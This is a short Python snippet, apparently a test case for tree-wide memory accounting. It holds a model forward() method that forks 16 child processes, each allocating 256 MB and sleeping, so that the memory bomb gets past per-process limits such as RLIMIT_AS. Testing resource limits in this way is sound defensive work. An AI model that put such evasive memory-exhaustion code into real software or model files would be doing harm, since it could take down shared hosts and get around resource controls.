"""Spreads a memory bomb over children, each of them small.

A limit for one process (RLIMIT_AS, RSS of the main pid) does not see it. Here the memory of the whole tree counts.
"""


def forward(self, x: torch.Tensor) -> torch.Tensor:
    for _ in range(16):
        if os.fork() == 0:
            block = bytearray(b"\x01") * (256 << 20)
            time.sleep(60)
            os._exit(len(block) & 1)
    time.sleep(60)
    return x
